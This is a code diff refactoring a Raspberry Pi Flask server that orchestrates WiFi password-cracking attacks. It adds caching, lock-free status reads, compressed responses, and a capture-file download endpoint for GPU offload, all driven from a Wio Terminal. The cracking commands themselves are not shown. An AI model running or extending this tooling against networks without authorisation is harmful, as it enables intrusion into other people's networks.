+    # One event wait instead of a 2s poll loop - no lock churn while the
+    # GPU grinds, and the worker wakes the instant /gpu_result posts back
+    if gpu_result_event.wait(timeout):
         with state_lock:
-            if attack_state.get("gpu_result"):
-                result = attack_state["gpu_result"]
-                attack_state["gpu_result"] = None  # Clear it
-                return result
-        
-        time.sleep(2)  # Poll every 2 seconds
-    
+            result = attack_state.get("gpu_result")
+            attack_state["gpu_result"] = None  # Clear it
+            _bump_rev()
+        gpu_result_event.clear()
+        if result:
+            return result
+
     logger.warning("GPU cracking timeout")
     return "NOT FOUND"
 
+if not (ENABLE_GPU_OFFLOAD and GPU_PC_IP):
+    # Offload is a config-time decision, so specialize at import instead of
+    # re-checking config inside every helper: the offload functions become
+    # constants and attack_worker falls straight through to Pi cracking
+    # without transfers, staging copies, or a wait that can only time out.
+    def transfer_cap_to_gpu_pc(*_args, **_kwargs):
+        return False
+
+    def transfer_cap_to_gpu_pc_http(*_args, **_kwargs):
+        return False
+
+    def wait_for_gpu_result(*_args, **_kwargs):
+        return "NOT FOUND"
+
 # --------------- FLASK APP --------------
 app = Flask(__name__)
 CORS(app)
 
+# Optional response compression - the pipe-delimited /networks pages and
+# JSON file listings compress 4-8x, which matters on the Wio's slow link.
+# flask-compress negotiates per Accept-Encoding, so clients without
+# br/gzip support still get plain responses.
+try:
+    from flask_compress import Compress
+    app.config["COMPRESS_MIN_SIZE"] = 256
+    app.config["COMPRESS_ALGORITHM"] = ["br", "gzip"]
+    Compress(app)
+    logger.info("✅ Response compression enabled (flask-compress)")
+except ImportError:
+    logger.info("flask-compress not installed - responses served uncompressed")
+
+def fast_json(payload, status=200):
+    """jsonify replacement for the polled status endpoints.
+
+    Uses orjson when installed - it emits bytes directly and skips the
+    stdlib dict-walk, which matters at 1-2Hz polling from two clients.
+    """
+    if orjson is not None:
+        return app.response_class(orjson.dumps(payload),
+                                  mimetype="application/json"), status
+    return jsonify(payload), status
+
 # Initialize interfaces on startup
 initialize_interfaces()
 
@@ -1300,7 +2036,7 @@ def scan():
         for attempt in range(max_retries):
             logger.info(f"Scan attempt {attempt + 1}/{max_retries} on {scan_iface}")
             
-            rc, out, err = run_cmd(f"sudo iw dev {scan_iface} scan", timeout=30)
+            rc, out, err = run_cmd(f"{SUDO}iw dev {scan_iface} scan", timeout=30)
             
             if rc == 0 and out:
                 break
@@ -1330,7 +2066,7 @@ def scan():
         if target_found:
             logger.info("Target network 'FBISurveillanceVan' found in scan results")
         
-        return jsonify({"networks": nets, "count": len(nets)}), 200
+        return fast_json({"networks": nets, "count": len(nets)})
         
     except Exception as e:
         logger.error(f"Scan error: {e}")
@@ -1357,8 +2093,7 @@ def start():
                 return jsonify({"error": "attack already running"}), 409
         
         logger.info(f"Starting attack on SSID: {ssid}")
-        t = threading.Thread(target=attack_worker, args=(ssid,), daemon=True)
-        t.start()
+        t = start_attack_thread(ssid)
         return jsonify({"message": "attack started", "target": ssid}), 200
         
     except Exception as e:
@@ -1369,9 +2104,8 @@ def start():
 @require_api_key
 def status():
     try:
-        with state_lock:
-            st = attack_state.copy()
-        
+        st = attack_snapshot  # lock-free read; writers publish via _bump_rev
+
         current_time = time.time()
         runtime = int(current_time - st["start_ts"]) if st["start_ts"] > 0 else 0
         
@@ -1414,8 +2148,8 @@ def status():
             response["completed"] = False
             response["failed"] = False
         
-        return jsonify(response), 200
-        
+        return fast_json(response)
+
     except Exception as e:
         logger.error(f"Status error: {e}")
         return jsonify({"error": "Internal server error"}), 500
@@ -1425,9 +2159,8 @@ def status():
 @require_api_key  
 def simple_status():
     try:
-        with state_lock:
-            st = attack_state.copy()
-        
+        st = attack_snapshot  # lock-free read; writers publish via _bump_rev
+
         # Ultra-minimal response for embedded devices
         response = {
             "r": 1 if st["running"] else 0,  # running (1/0 instead of true/false)
@@ -1444,13 +2177,15 @@ def simple_status():
             else:
                 response["pw"] = ""
                 
-        return jsonify(response), 200
-        
+        return fast_json(response)
+
     except Exception as e:
         logger.error(f"Simple status error: {e}")
         return jsonify({"error": "error"}), 500
 
 # Plain text status endpoint - easiest for Wio Terminal to parse
+_text_cache = {"rev": -1, "body": ""}
+
 @app.route("/text", methods=["GET"])
 def text_status():
     # Check API key manually without rate limiting for polling
@@ -1458,28 +2193,34 @@ def text_status():
     if not api_key or api_key != API_KEY:
         return "0|0|error||", 401, {'Content-Type': 'text/plain'}
     try:
-        with state_lock:
-            st = attack_state.copy()
-        
+        # The Wio polls this at 1Hz; on steady state the revision check is a
+        # single int compare on the lock-free snapshot
+        st = attack_snapshot
+        rev = st["_rev"]
+        if rev == _text_cache["rev"]:
+            return _text_cache["body"], 200, {'Content-Type': 'text/plain'}
+
         if not st["running"] and st["progress"] == 0:
-            return "0|0|idle||", 200, {'Content-Type': 'text/plain'}
-        
-        # Plain text format: RUNNING|PROGRESS|PHASE|TARGET|RESULT
-        running = "1" if st["running"] else "0"
-        progress = str(st["progress"])
-        phase = st.get("phase", "idle")[:10]
-        target = st.get("target", "")[:16]  # Match your 16 char limit
-        
-        # Result handling - only when attack is complete
-        result = ""
-        if not st["running"] and st["progress"] == 100:
-            result = st.get("result", "")[:20]
-        
-        # Format: R|P|S|T|PW (pipe-separated for easy parsing)
-        response_text = f"{running}|{progress}|{phase}|{target}|{result}"
-        
+            response_text = "0|0|idle||"
+        else:
+            # Plain text format: RUNNING|PROGRESS|PHASE|TARGET|RESULT
+            running = "1" if st["running"] else "0"
+            progress = str(st["progress"])
+            phase = st.get("phase", "idle")[:10]
+            target = st.get("target", "")[:16]  # Match your 16 char limit
+
+            # Result handling - only when attack is complete
+            result = ""
+            if not st["running"] and st["progress"] == 100:
+                result = st.get("result", "")[:20]
+
+            # Format: R|P|S|T|PW (pipe-separated for easy parsing)
+            response_text = f"{running}|{progress}|{phase}|{target}|{result}"
+
+        _text_cache["rev"] = rev
+        _text_cache["body"] = response_text
         return response_text, 200, {'Content-Type': 'text/plain'}
-        
+
     except Exception as e:
         logger.error(f"Text status error: {e}")
         return "0|0|error||", 500, {'Content-Type': 'text/plain'}
@@ -1538,32 +2279,44 @@ def format_main_menu():
     menu += "CENTER: Select"
     return menu
 
+# The Wio Terminal re-requests the network menu every time it redraws;
+# serve repeats from cache instead of re-running a 15s iw scan each time
+_scan_menu_cache = {"ts": 0.0, "text": ""}
+_SCAN_MENU_TTL = 20.0
+_scan_menu_lock = threading.Lock()
+
 def format_network_list():
     """Scan networks and return formatted list"""
     try:
-        scan_iface = interface_state.get("scan_iface", SCAN_IFACE)
-        setup_managed_mode(scan_iface)
-        time.sleep(1)
-        
-        rc, out, err = run_cmd(f"sudo iw dev {scan_iface} scan", timeout=15)
-        if rc != 0:
-            return "ERROR: Scan failed"
-        
-        nets = parse_iw_scan(out)
-        if not nets:
-            return "No networks found"
-        
-        # Format for display (Pi does all processing)
-        result = f"=== NETWORKS ({len(nets)}) ===\\n"
-        for i, net in enumerate(nets[:10]):  # Limit to 10
-            ssid = net.get('ssid', 'Hidden')[:15]  # Truncate
-            signal = net.get('signal', -100)
-            encryption = 'WPA' if 'WPA' in net.get('encryption', '') else 'Open'
-            result += f"{i+1:2d}. {ssid:<15} {signal:>4}dBm {encryption}\\n"
-        
-        result += "UP/DOWN: Select\\nCENTER: Attack"
-        return result
-        
+        with _scan_menu_lock:
+            now = time.time()
+            if now - _scan_menu_cache["ts"] < _SCAN_MENU_TTL:
+                return _scan_menu_cache["text"]
+
+            scan_iface = interface_state.get("scan_iface", SCAN_IFACE)
+            setup_managed_mode(scan_iface)
+            time.sleep(1)
+
+            rc, out, err = run_cmd(f"{SUDO}iw dev {scan_iface} scan", timeout=15)
+            if rc != 0:
+                return "ERROR: Scan failed"
+
+            nets = parse_iw_scan(out)
+            if not nets:
+                return "No networks found"
+
+            # Format for display (Pi does all processing)
+            result = f"=== NETWORKS ({len(nets)}) ===\\n"
+            for i, net in enumerate(nets[:10]):  # Limit to 10
+                ssid = net.get('ssid', 'Hidden')[:15]  # Truncate
+                signal = net.get('signal', -100)
+                encryption = 'WPA' if 'WPA' in net.get('encryption', '') else 'Open'
+                result += f"{i+1:2d}. {ssid:<15} {signal:>4}dBm {encryption}\\n"
+
+            result += "UP/DOWN: Select\\nCENTER: Attack"
+            _scan_menu_cache.update(ts=now, text=result)
+            return result
+
     except Exception as e:
         logger.error(f"Network scan error: {e}")
         return "ERROR: Scan failed"
@@ -1576,8 +2329,7 @@ def start_attack_command(target_ssid):
                 return "ERROR: Attack already running"
         
         # Start attack in background thread
-        t = threading.Thread(target=attack_worker, args=(target_ssid,), daemon=True)
-        t.start()
+        t = start_attack_thread(target_ssid)
         
         return f"ATTACK STARTED\\nTarget: {target_ssid}\\nCheck status for updates"
         
@@ -1585,38 +2337,38 @@ def start_attack_command(target_ssid):
         logger.error(f"Attack start error: {e}")
         return "ERROR: Failed to start attack"
 
+# All 21 possible 20-char progress bars, built once - the bar is redrawn on
+# every status poll but only ever takes these values
+_BARS = tuple("[" + "=" * i + "-" * (20 - i) + "]" for i in range(21))
+
 def format_attack_status():
     """Format attack status for display"""
     try:
-        with state_lock:
-            st = attack_state.copy()
-        
+        st = attack_snapshot  # lock-free read; writers publish via _bump_rev
+
         if not st["running"] and st["progress"] == 0:
             return "STATUS: IDLE\\nNo attack running\\n\\nPress MENU to start"
-        
-        # Format status display
-        status = f"=== ATTACK STATUS ===\\n"
-        status += f"Target: {st.get('target', 'Unknown')[:16]}\\n"
-        status += f"Phase: {st.get('phase', 'unknown').upper()}\\n"
-        status += f"Progress: {st['progress']}%\\n"
-        
-        # Show progress bar
-        progress_bar = "["
-        filled = st['progress'] // 5  # 20 char bar
-        progress_bar += "=" * filled + "-" * (20 - filled) + "]"
-        status += progress_bar + "\\n"
-        
+
+        # Format status display - one join instead of repeated += concats
+        lines = [
+            "=== ATTACK STATUS ===",
+            f"Target: {st.get('target', 'Unknown')[:16]}",
+            f"Phase: {st.get('phase', 'unknown').upper()}",
+            f"Progress: {st['progress']}%",
+            _BARS[min(st['progress'] // 5, 20)],  # 20 char bar
+        ]
+
         if not st["running"]:
             result = st.get("result", "")
             if result and result != "NOT FOUND":
-                status += f"\\nSUCCESS!\\nPassword: {result[:20]}"
+                lines.append(f"\\nSUCCESS!\\nPassword: {result[:20]}")
             else:
-                status += "\\nFAILED\\nPassword not found"
+                lines.append("\\nFAILED\\nPassword not found")
         else:
             runtime = int(time.time() - st["start_ts"]) if st["start_ts"] > 0 else 0
-            status += f"\\nRuntime: {runtime}s"
-        
-        return status
+            lines.append(f"\\nRuntime: {runtime}s")
+
+        return "\\n".join(lines)
         
     except Exception as e:
         logger.error(f"Status format error: {e}")
@@ -1628,13 +2380,16 @@ def cancel_attack_command():
         with state_lock:
             if not attack_state["running"]:
                 return "No attack to cancel"
-            
-            kill_process_tree(attack_state["proc_pids"])
+
+            pids = list(attack_state["proc_pids"])
             attack_state["running"] = False
             attack_state["step"] = "cancelled"
             attack_state["progress"] = 0
             attack_state["result"] = "CANCELLED"
-        
+            _bump_rev()
+        # Signal off-lock so status pollers aren't blocked behind the kills
+        kill_process_tree(pids)
+
         return "ATTACK CANCELLED\\nReturning to menu..."
         
     except Exception as e:
@@ -1644,40 +2399,81 @@ def cancel_attack_command():
 # ==== ULTRA-SIMPLE REMOTE CONTROL API ====
 # Pi does ALL processing, Wio just sends simple commands
 
-def scan_and_cache_networks():
-    """Scan networks and cache results for pagination"""
+def scan_and_cache_networks(force=False):
+    """Scan networks and cache results for pagination.
+
+    Serves straight from cache while it is inside NETWORK_SCAN_TTL, and
+    coalesces concurrent callers onto a scan already in flight instead of
+    queueing another 20s iw scan behind the lock. The cache itself is
+    replaced wholesale (never mutated in place), so readers stay lock-free
+    even while a scan is running.
+    """
     global networks_cache
-    
+
     try:
-        with networks_cache["scan_lock"]:
+        if not force and time.time() - networks_cache["last_scan"] < NETWORK_SCAN_TTL:
+            return True
+
+        if not _net_scan_lock.acquire(blocking=False):
+            # Another thread is mid-scan: wait for it to finish and reuse
+            # its result rather than running a duplicate scan
+            with _net_scan_lock:
+                return networks_cache["last_scan"] > 0
+
+        try:
+            # Re-check under the lock - the scan we raced may just have
+            # refreshed the cache
+            if not force and time.time() - networks_cache["last_scan"] < NETWORK_SCAN_TTL:
+                return True
+
             scan_iface = interface_state.get("scan_iface", SCAN_IFACE)
             setup_managed_mode(scan_iface)
             time.sleep(1)
             
             logger.info("Scanning networks for cache...")
-            rc, out, err = run_cmd(f"sudo iw dev {scan_iface} scan", timeout=20)
-            if rc != 0:
-                logger.error(f"Network scan failed: {err}")
+            try:
+                # Stream scan output into the parser instead of buffering it all
+                nets = parse_iw_scan(run_cmd_streaming(f"{SUDO}iw dev {scan_iface} scan", timeout=20))
+            except RuntimeError as e:
+                logger.error(f"Network scan failed: {e}")
                 return False
             
-            nets = parse_iw_scan(out)
-            
-            # Store in cache with full details
-            networks_cache["networks"] = []
-            for i, net in enumerate(nets[:20]):  # Limit to 20 networks
-                network_info = {
+            # Build the whole snapshot locally, then publish it in one
+            # assignment - readers see either the old scan or the new one,
+            # never a half-built cache
+            nets_cached = tuple(
+                {
                     "number": i + 1,
                     "ssid": net.get('ssid', 'Hidden')[:12],  # Limit to 12 chars MAX
                     "signal": net.get('signal', -100),
                     "encryption": 'WPA' if 'WPA' in net.get('encryption', '') else 'Open',
                     "bssid": net.get('bssid', '')
                 }
-                networks_cache["networks"].append(network_info)
-            
-            networks_cache["last_scan"] = time.time()
-            logger.info(f"Cached {len(networks_cache['networks'])} networks")
+                for i, net in enumerate(nets[:20])  # Limit to 20 networks
+            )
+
+            # Pre-render the pagination views once per scan - the Wio
+            # re-requests pages on every screen redraw while the underlying
+            # data only changes when we rescan
+            per_page = 3
+            lines = [f"{n['number']}|{n['ssid']}|{n['signal']}|{n['encryption']}"
+                     for n in nets_cached]
+            networks_cache = {
+                "networks": nets_cached,
+                "last_scan": time.time(),
+                "pages": {
+                    page: "\n".join(lines[(page - 1) * per_page:page * per_page])
+                    for page in range(1, (len(lines) + per_page - 1) // per_page + 1)
+                },
+                "all_text": "\n".join(
+                    f"{n['ssid']}|{n['signal']}|{n['encryption']}" for n in nets_cached),
+            }
+            _save_scan_cache(networks_cache)
+            logger.info(f"Cached {len(nets_cached)} networks")
             return True
-            
+        finally:
+            _net_scan_lock.release()
+
     except Exception as e:
         logger.error(f"Network cache error: {e}")
         return False
@@ -1689,15 +2485,12 @@ def get_networks():
         if not scan_and_cache_networks():
             return "ERROR: Scan failed", 500, {'Content-Type': 'text/plain'}
         
-        if not networks_cache["networks"]:
+        cache = networks_cache  # one snapshot for a consistent read
+        if not cache["networks"]:
             return "No networks found", 200, {'Content-Type': 'text/plain'}
-        
-        # Return ultra-minimal format: SSID|SIGNAL|ENCRYPTION (12 char SSID max)
-        result = []
-        for net in networks_cache["networks"]:
-            result.append(f"{net['ssid']}|{net['signal']}|{net['encryption']}")
-        
-        return '\n'.join(result), 200, {'Content-Type': 'text/plain'}
+
+        # Ultra-minimal format SSID|SIGNAL|ENCRYPTION, pre-rendered at scan time
+        return cache["all_text"], 200, {'Content-Type': 'text/plain'}
         
     except Exception as e:
         logger.error(f"Networks error: {e}")
@@ -1707,10 +2500,9 @@ def get_networks():
 def get_network_count():
     """Get total number of networks found"""
     try:
-        # Use cached data if recent (within 2 minutes), otherwise rescan
-        if time.time() - networks_cache["last_scan"] > 120:
-            if not scan_and_cache_networks():
-                return '{"count": 0, "error": "Scan failed"}', 500, {'Content-Type': 'application/json'}
+        # scan_and_cache_networks serves from cache inside NETWORK_SCAN_TTL
+        if not scan_and_cache_networks():
+            return '{"count": 0, "error": "Scan failed"}', 500, {'Content-Type': 'application/json'}
         
         count = len(networks_cache["networks"])
         return f'{{"count": {count}}}', 200, {'Content-Type': 'application/json'}
@@ -1723,31 +2515,18 @@ def get_network_count():
 def get_network_page(page):
     """Get specific page of networks (3 networks per page)"""
     try:
-        NETWORKS_PER_PAGE = 3
-        
-        # Use cached data if recent, otherwise rescan
-        if time.time() - networks_cache["last_scan"] > 120:
-            if not scan_and_cache_networks():
-                return "ERROR: Scan failed", 500, {'Content-Type': 'text/plain'}
-        
-        total_networks = len(networks_cache["networks"])
-        total_pages = (total_networks + NETWORKS_PER_PAGE - 1) // NETWORKS_PER_PAGE
-        
-        if page < 1 or page > total_pages:
-            return f"ERROR: Page {page} not found (1-{total_pages})", 400, {'Content-Type': 'text/plain'}
-        
-        # Calculate page boundaries
-        start_idx = (page - 1) * NETWORKS_PER_PAGE
-        end_idx = min(start_idx + NETWORKS_PER_PAGE, total_networks)
-        
-        # Format page display - ultra-minimal: number|ssid|signal|encryption
-        result = []
-        for i in range(start_idx, end_idx):
-            net = networks_cache["networks"][i]
-            result.append(f"{net['number']}|{net['ssid']}|{net['signal']}|{net['encryption']}")
-        
-        # Return with actual newlines (not literal \\n)
-        return '\n'.join(result), 200, {'Content-Type': 'text/plain'}
+        # scan_and_cache_networks serves from cache inside NETWORK_SCAN_TTL
+        if not scan_and_cache_networks():
+            return "ERROR: Scan failed", 500, {'Content-Type': 'text/plain'}
+
+        # Pages are pre-rendered at scan time (number|ssid|signal|encryption,
+        # 3 networks per page) - serving one is a dict lookup
+        pages = networks_cache["pages"]  # snapshot: pages dict is never mutated
+        body = pages.get(page)
+        if body is None:
+            return f"ERROR: Page {page} not found (1-{len(pages)})", 400, {'Content-Type': 'text/plain'}
+
+        return body, 200, {'Content-Type': 'text/plain'}
         
     except Exception as e:
         logger.error(f"Network page error: {e}")
@@ -1758,18 +2537,19 @@ def attack_target_number(network_number):
     """Start attack on network by number from cached list"""
     try:
         # Check if we have cached networks
-        if not networks_cache["networks"]:
+        nets_cached = networks_cache["networks"]  # one snapshot read
+        if not nets_cached:
             return "ERROR: No networks cached. Scan first.", 400, {'Content-Type': 'text/plain'}
-        
+
         # Find network by number
         target_network = None
-        for net in networks_cache["networks"]:
+        for net in nets_cached:
             if net["number"] == network_number:
                 target_network = net
                 break
-        
+
         if not target_network:
-            total = len(networks_cache["networks"])
+            total = len(nets_cached)
             return f"ERROR: Network {network_number} not found (1-{total})", 400, {'Content-Type': 'text/plain'}
         
         # Check if attack already running
@@ -1779,8 +2559,7 @@ def attack_target_number(network_number):
         
         # Start attack
         ssid = target_network["ssid"]
-        t = threading.Thread(target=attack_worker, args=(ssid,), daemon=True)
-        t.start()
+        t = start_attack_thread(ssid)
         
         logger.info(f"Started attack on network {network_number}: {ssid}")
         return f"STARTED|{ssid}", 200, {'Content-Type': 'text/plain'}
@@ -1793,15 +2572,17 @@ def attack_target_number(network_number):
 def get_status_simple():
     """Ultra-simple status: running|progress|phase|target"""
     try:
-        with state_lock:
-            st = attack_state.copy()
-        
-        running = "1" if st["running"] else "0"
-        progress = str(st["progress"])
-        phase = st.get("phase", "idle")
-        target = st.get("target", "")
-        
-        return f"{running}|{progress}|{phase}|{target}", 200, {'Content-Type': 'text/plain'}
+        st = attack_snapshot  # lock-free read; writers publish via _bump_rev
+
+        # Build bytes directly - skips Werkzeug's str->utf8 encode pass on
+        # the hottest polling endpoint
+        body = b"%d|%d|%s|%s" % (
+            1 if st["running"] else 0,
+            st["progress"],
+            st.get("phase", "idle").encode(),
+            st.get("target", "").encode(),
+        )
+        return app.response_class(body, mimetype="text/plain"), 200
         
     except Exception as e:
         logger.error(f"Status simple error: {e}")
@@ -1822,8 +2603,7 @@ def attack_start():
                 return "ERROR: Attack already running", 409, {'Content-Type': 'text/plain'}
         
         # Start attack in background
-        t = threading.Thread(target=attack_worker, args=(ssid,), daemon=True)
-        t.start()
+        t = start_attack_thread(ssid)
         
         return f"STARTED|{ssid}", 200, {'Content-Type': 'text/plain'}
         
@@ -1838,13 +2618,15 @@ def attack_stop():
         with state_lock:
             if not attack_state["running"]:
                 return "NOT_RUNNING", 200, {'Content-Type': 'text/plain'}
-            
-            kill_process_tree(attack_state["proc_pids"])
+
+            pids = list(attack_state["proc_pids"])
             attack_state["running"] = False
             attack_state["step"] = "cancelled"
             attack_state["progress"] = 0
             attack_state["result"] = "CANCELLED"
-        
+            _bump_rev()
+        kill_process_tree(pids)
+
         return "STOPPED", 200, {'Content-Type': 'text/plain'}
         
     except Exception as e:
@@ -1855,17 +2637,17 @@ def attack_stop():
 def get_results_simple():
     """Get final results: SUCCESS|password or FAILED|reason"""
     try:
-        with state_lock:
-            st = attack_state.copy()
-        
+        st = attack_snapshot  # lock-free read; writers publish via _bump_rev
+
         if st["running"]:
             return "RUNNING|Attack in progress", 200, {'Content-Type': 'text/plain'}
         
         result = st.get("result", "")
         if result and result not in ["NOT FOUND", "FAILED", "CANCELLED"]:
-            return f"SUCCESS|{result}", 200, {'Content-Type': 'text/plain'}
+            body = b"SUCCESS|%s" % result.encode()
         else:
-            return f"FAILED|{result}", 200, {'Content-Type': 'text/plain'}
+            body = b"FAILED|%s" % result.encode()
+        return app.response_class(body, mimetype="text/plain"), 200
         
     except Exception as e:
         logger.error(f"Results error: {e}")
@@ -1885,7 +2667,7 @@ def results():
                 "final_step": attack_state.get("step", ""),
                 "total_runtime": int(time.time() - attack_state["start_ts"]) if attack_state["start_ts"] > 0 else 0
             }
-            return jsonify(response), 200
+        return fast_json(response)
             
     except Exception as e:
         logger.error(f"Results error: {e}")
@@ -1897,15 +2679,23 @@ def files():
     try:
         files = []
         if CAP_DIR.exists():
-            for p in sorted(CAP_DIR.glob("*"), key=lambda x: x.stat().st_mtime, reverse=True):
+            # One scandir pass with one stat per entry - the old glob+sort
+            # re-stat()ed every file several times over
+            entries = []
+            with os.scandir(CAP_DIR) as it:
+                for entry in it:
+                    st = entry.stat(follow_symlinks=False)
+                    entries.append((st.st_mtime, entry.name, st.st_size))
+            entries.sort(reverse=True)
+            for mtime, name, size in entries:
                 files.append({
-                    "name": p.name,
-                    "size": p.stat().st_size,
-                    "mtime": int(p.stat().st_mtime),
-                    "created": datetime.fromtimestamp(p.stat().st_mtime).isoformat()
+                    "name": name,
+                    "size": size,
+                    "mtime": int(mtime),
+                    "created": time.strftime("%Y-%m-%dT%H:%M:%S", time.localtime(mtime))
                 })
         
-        return jsonify({"files": files, "total": len(files)}), 200
+        return fast_json({"files": files, "total": len(files)})
         
     except Exception as e:
         logger.error(f"Files listing error: {e}")
@@ -1920,12 +2710,14 @@ def cancel():
                 return jsonify({"message": "No attack running"}), 200
             
             logger.info("Cancelling attack")
-            kill_process_tree(attack_state["proc_pids"])
+            pids = list(attack_state["proc_pids"])
             attack_state["running"] = False
             attack_state["step"] = "cancelled"
             attack_state["progress"] = 0
             attack_state["result"] = "CANCELLED"
-        
+            _bump_rev()
+        kill_process_tree(pids)
+
         return jsonify({"message": "Attack cancelled"}), 200
         
     except Exception as e:
@@ -1937,46 +2729,74 @@ def cancel():
 def get_wordlists():
     """Get available wordlists"""
     try:
-        wordlists = interface_state.get("wordlists", [])
-        return jsonify({
-            "wordlists": [{
-                "path": wl["path"],
-                "name": os.path.basename(wl["path"]),
-                "size_bytes": wl["size"],
-                "size_mb": round(wl["size"] / 1024 / 1024, 2)
-            } for wl in wordlists],
-            "count": len(wordlists)
-        }), 200
+        # Wordlists only change when initialize_interfaces rescans, so serve
+        # pre-serialized bytes keyed on the interface-state version
+        key = interface_state["version"]
+        if _wordlists_cache["key"] != key:
+            wordlists = interface_state.get("wordlists", [])
+            _wordlists_cache["body"] = _serialize_cached({
+                "wordlists": [{
+                    "path": wl["path"],
+                    "name": os.path.basename(wl["path"]),
+                    "size_bytes": wl["size"],
+                    "size_mb": round(wl["size"] / 1024 / 1024, 2)
+                } for wl in wordlists],
+                "count": len(wordlists)
+            })
+            _wordlists_cache["key"] = key
+        return app.response_class(_wordlists_cache["body"],
+                                  mimetype="application/json"), 200
     except Exception as e:
         logger.error(f"Wordlists error: {e}")
         return jsonify({"error": "Internal server error"}), 500
 
 # Add new endpoints
+# Pre-serialized bodies for /health, /config and /wordlists - nearly every field is
+# fixed config or interface facts, so rebuild only when the interface state
+# version (or, for /health, the attack-running flag) changes
+_health_cache = {"key": None, "body": b""}
+_config_cache = {"key": None, "body": b""}
+_wordlists_cache = {"key": None, "body": b""}
+
+def _serialize_cached(payload):
+    if orjson is not None:
+        return orjson.dumps(payload)
+    return json.dumps(payload).encode()
+
 @app.route("/health", methods=["GET"])
 def health():
     """Health check endpoint"""
     try:
-        status_info = {
-            "status": "healthy",
-            "timestamp": datetime.now().isoformat(),
-            "interfaces": {
-                "scan": interface_state.get("scan_iface"),
-                "monitor": interface_state.get("mon_iface"),
-                "available": interface_state.get("available_interfaces", []),
-                "monitor_tested": interface_state.get("monitor_tested", False),
-                "last_monitor_test": interface_state.get("last_monitor_test", 0)
-            },
-            "tools_available": interface_state.get("tools_checked", False),
-            "wordlists_available": len(interface_state.get("wordlists", [])),
-            "capture_dir": str(CAP_DIR),
-            "attack_running": attack_state.get("running", False),
-            "gpu_offload": {
-                "enabled": ENABLE_GPU_OFFLOAD,
-                "pc_ip": GPU_PC_IP,
-                "configured": bool(GPU_PC_IP and ENABLE_GPU_OFFLOAD)
+        key = (interface_state["version"], attack_snapshot["running"])
+        if key != _health_cache["key"]:
+            # timestamp deliberately left out of the cached payload - it is
+            # spliced in fresh per request below
+            status_info = {
+                "status": "healthy",
+                "interfaces": {
+                    "scan": interface_state.get("scan_iface"),
+                    "monitor": interface_state.get("mon_iface"),
+                    "available": interface_state.get("available_interfaces", []),
+                    "monitor_tested": interface_state.get("monitor_tested", False),
+                    "last_monitor_test": interface_state.get("last_monitor_test", 0)
+                },
+                "tools_available": interface_state.get("tools_checked", False),
+                "wordlists_available": len(interface_state.get("wordlists", [])),
+                "capture_dir": str(CAP_DIR),
+                "attack_running": attack_snapshot["running"],
+                "gpu_offload": {
+                    "enabled": ENABLE_GPU_OFFLOAD,
+                    "pc_ip": GPU_PC_IP,
+                    "configured": bool(GPU_PC_IP and ENABLE_GPU_OFFLOAD)
+                }
             }
-        }
-        return jsonify(status_info), 200
+            _health_cache["body"] = _serialize_cached(status_info)
+            _health_cache["key"] = key
+        # Both orjson and json emit the body as {"... - prepend the live
+        # timestamp so cached responses don't report a stale clock
+        body = (b'{"timestamp":"%s",' % datetime.now().isoformat().encode()
+                + _health_cache["body"][1:])
+        return app.response_class(body, mimetype="application/json"), 200
     except Exception as e:
         logger.error(f"Health check error: {e}")
         return jsonify({"status": "unhealthy", "error": str(e)}), 500
@@ -1986,22 +2806,28 @@ def health():
 def get_config():
     """Get current configuration"""
     try:
-        config = {
-            "attack_timeout": ATTACK_TIMEOUT_SEC,
-            "capture_dir": str(CAP_DIR),
-            "rate_limit": RATE_LIMIT_PER_MINUTE,
-            "wordlist_dir": WORDLIST_DIR,
-            "gpu_offload_enabled": ENABLE_GPU_OFFLOAD,
-            "gpu_pc_ip": GPU_PC_IP,
-            "interfaces": {
-                "scan": interface_state.get("scan_iface"),
-                "monitor": interface_state.get("mon_iface"),
-                "available": interface_state.get("available_interfaces", [])
-            },
-            "wordlists": interface_state.get("wordlists", []),
-            "tools_checked": interface_state.get("tools_checked", False)
-        }
-        return jsonify(config), 200
+        key = interface_state["version"]
+        if key != _config_cache["key"]:
+            config = {
+                "attack_timeout": ATTACK_TIMEOUT_SEC,
+                "capture_dir": str(CAP_DIR),
+                "rate_limit": RATE_LIMIT_PER_MINUTE,
+                "network_scan_ttl": NETWORK_SCAN_TTL,
+                "wordlist_dir": WORDLIST_DIR,
+                "gpu_offload_enabled": ENABLE_GPU_OFFLOAD,
+                "gpu_pc_ip": GPU_PC_IP,
+                "interfaces": {
+                    "scan": interface_state.get("scan_iface"),
+                    "monitor": interface_state.get("mon_iface"),
+                    "available": interface_state.get("available_interfaces", [])
+                },
+                "wordlists": interface_state.get("wordlists", []),
+                "tools_checked": interface_state.get("tools_checked", False)
+            }
+            _config_cache["body"] = _serialize_cached(config)
+            _config_cache["key"] = key
+        return app.response_class(_config_cache["body"],
+                                  mimetype="application/json"), 200
     except Exception as e:
         logger.error(f"Config error: {e}")
         return jsonify({"error": "Internal server error"}), 500
@@ -2022,13 +2848,30 @@ def receive_gpu_result():
         with state_lock:
             attack_state["gpu_result"] = password
             attack_state["gpu_processing"] = False
-        
-        return jsonify({"status": "received", "target": target}), 200
+            _bump_rev()
+        gpu_result_event.set()
+
+        return fast_json({"status": "received", "target": target})
         
     except Exception as e:
         logger.error(f"GPU result error: {e}")
         return jsonify({"error": "Internal server error"}), 500
 
+@app.route("/download_cap/<path:filename>", methods=["GET"])
+@require_api_key
+def download_cap(filename):
+    """Serve a staged capture file to the GPU PC over HTTP"""
+    try:
+        staged = CAP_DIR / "for_gpu" / sanitize(filename)
+        if not staged.exists():
+            return jsonify({"error": "file not found"}), 404
+        # conditional=True gives range/etag support and lets werkzeug push
+        # the file with os.sendfile - a 50MB pcap never transits Python
+        return send_file(staged, as_attachment=True, conditional=True)
+    except Exception as e:
+        logger.error(f"Capture download error: {e}")
+        return jsonify({"error": "Internal server error"}), 500
+
 @app.route("/upload_cap", methods=["POST"])
 @require_api_key
 def upload_cap_file():
@@ -2044,11 +2887,22 @@ def upload_cap_file():
         if not file.filename.lower().endswith(('.cap', '.pcap')):
             return jsonify({"error": "Invalid file type. Must be .cap or .pcap"}), 400
         
-        # Save uploaded file
+        # Save uploaded file with 1MB buffers instead of file.save's small
+        # default chunks, then drop it from the page cache - captures are
+        # read once (for analysis/transfer), not rewarmed, and the Pi's RAM
+        # is better spent elsewhere
         filename = sanitize(file.filename)
         upload_path = CAP_DIR / filename
-        file.save(str(upload_path))
-        
+        with open(upload_path, "wb") as out:
+            shutil.copyfileobj(file.stream, out, length=1 << 20)
+            out.flush()
+            if hasattr(os, "posix_fadvise"):
+                try:
+                    os.posix_fadvise(out.fileno(), 0, 0, os.POSIX_FADV_DONTNEED)
+                except OSError:
